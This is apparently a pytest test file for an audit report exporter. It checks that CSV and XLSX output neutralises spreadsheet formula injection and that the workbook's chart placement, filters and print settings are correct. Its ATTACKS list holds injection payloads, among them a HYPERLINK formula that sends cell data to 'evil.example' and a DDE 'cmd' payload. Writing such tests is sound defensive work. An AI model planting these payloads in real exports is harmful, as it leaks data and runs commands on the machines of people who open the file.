"""What real use found in the reports: formula injection past control characters, the XLSX
chart, filters and print setup, and the PDF's cover, pages and headings."""

from __future__ import annotations

import io
import re
import unicodedata
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from audit.export import to_csv, to_xlsx
from audit.model import Comment, Report
from bot.i18n import Translator
from tests.test_export import LOCALES, build_report, csv_rows

FORMULA_SIGNS = "=+-@＝＋－＠"
# What an attacker types into a comment or a staff member into a practice name.
ATTACKS = [
    "=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2028=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x0b\x0c \u200b=1+1",
    "＝1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\x0b+cmd|' /C calc'!A0",
    "\x0b@SUM(1)",
]


def ignorable(char: str) -> bool:
    return char.isspace() or unicodedata.category(char)[0] in "CZ"


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would take a text cell for a formula."""
    first = next((c for c in text if not ignorable(c)), "")
    return first in FORMULA_SIGNS and not text.startswith("'")


def attacked_report() -> Report:
    report = build_report()
    at = report.comments[0].answered_on
    report.comments = [
        Comment(100 + n, "krakow", "krakow-info", text, hidden=False, answered_on=at)
        for n, text in enumerate(ATTACKS)
    ]
    report.practices[0] = replace(
        report.practices[0], practice={locale: "\x0b=1+1 name" for locale in LOCALES}
    )
    return report


def test_the_formula_guard_looks_past_control_and_invisible_characters() -> None:
    translator = Translator("en")
    report = attacked_report()
    content = to_xlsx(report, translator, "en")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert sum("1+1" in text for text in texts) >= len(ATTACKS) - 6
    assert [t for t in texts if looks_like_formula(t)] == []

    rows = csv_rows(to_csv(report, translator, "en"))
    assert [cell for row in rows for cell in row if looks_like_formula(cell)] == []
    assert any("1+1 name" in cell for row in rows for cell in row)


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_neutralises_each_attack(attack: str) -> None:
    from audit.privacy import safe_cell

    assert not looks_like_formula(safe_cell(attack))


def test_the_xlsx_chart_sits_under_its_data_and_every_table_filters_and_prints() -> None:
    report = build_report()
    content = to_xlsx(report, Translator("en"), "en")
    book = load_workbook(io.BytesIO(content))
    rows = book["Summary"].max_row
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        drawing = archive.read("xl/drawings/drawing1.xml").decode()
    anchor = re.search(r"<from><col>(\d+)</col>.*?<row>(\d+)</row>", drawing)
    assert anchor is not None
    anchor_col, anchor_row = int(anchor[1]), int(anchor[2]) + 1  # zero-based in the file
    assert anchor_col <= 1  # column A or B: on screen, not at column R
    assert anchor_row > rows  # under the table, not over it
    for name in ("Summary", "Criteria", "Trend", "Comments"):
        sheet = book[name]
        last = f"{sheet.cell(1, sheet.max_column).column_letter}{max(sheet.max_row, 2)}"
        assert sheet.auto_filter.ref == f"A1:{last}", name
        assert sheet.print_title_rows in ("1:1", "$1:$1"), name
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0, name
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, name
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4), name
    assert book["Summary"].page_setup.orientation == "landscape"
    assert book["Criteria"].page_setup.orientation == "landscape"
    assert book["Method"].page_setup.orientation == "portrait"
